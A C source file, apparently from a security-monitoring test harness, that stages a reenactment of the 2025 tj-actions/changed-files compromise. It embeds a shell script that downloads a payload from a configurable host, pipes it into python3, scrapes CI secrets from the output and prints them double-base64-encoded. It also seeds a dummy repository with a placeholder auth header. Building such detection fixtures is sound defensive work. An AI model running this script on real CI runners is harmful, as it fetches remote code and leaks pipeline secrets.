// SPDX-License-Identifier: Apache-2.0
//
// The steps that are actions: `node` runs each of them, `git` writes a repository.

#define _GNU_SOURCE
#include "files.h"
#include "process.h"
#include "roles.h"
#include "story.h"

#include <limits.h>
#include <stddef.h>
#include <string.h>

static const char compromised_action[] =
    "# The staged counterpart of the code that was smuggled into tj-actions/changed-files in March 2025.\n"
    "if [ \"$GITHUB_ACTIONS\" = true ]; then\n"
    "  blob=$(curl -sSf http://" HOST_NAME PAYLOAD_PATH
    " | python3 | tr -d '\\0' |\n"
    "    grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0 | base64 -w 0)\n"
    "  [ -n \"$blob\" ] || exit 1\n"
    "  echo \"$blob\"\n"
    "fi\n";

int play_node(void) {
    if (strcmp(need_env("GITHUB_ACTION_REPOSITORY"), "actions/checkout") == 0) {
        char *const command[] = {"git", "checkout", "--progress", "--force", "main", NULL};
        return run(command);
    }
    char script[PATH_MAX];
    write_file(path(script, "%s/run.sh", need_env("RUNNER_TEMP")), compromised_action);
    char *const command[] = {"bash", script, NULL};
    return run(command);
}

int play_git(void) {
    static const char *const dirs[] = {".git/objects", ".git/refs/heads", "src"};
    // No workflow file: Eyas identifies programs by their executable, and this one is not git.
    static const char *const files[][2] = {
        {".git/HEAD", "ref: refs/heads/main\n"},
        {".git/config", "[core]\n\tbare = false\n[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic "
                        "RkFLRQ==\n"},
        {"src/main.c", "#include <stdio.h>\nint price(int n);\nint main(void) { printf(\"%d\\n\", price(3)); }\n"},
        {"src/price.c", "int price(int n) { return 7 * n; }\n"},
    };
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        make_dirs(dirs[i]);
    }
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        write_file(files[i][0], files[i][1]);
    }
    return 0;
}
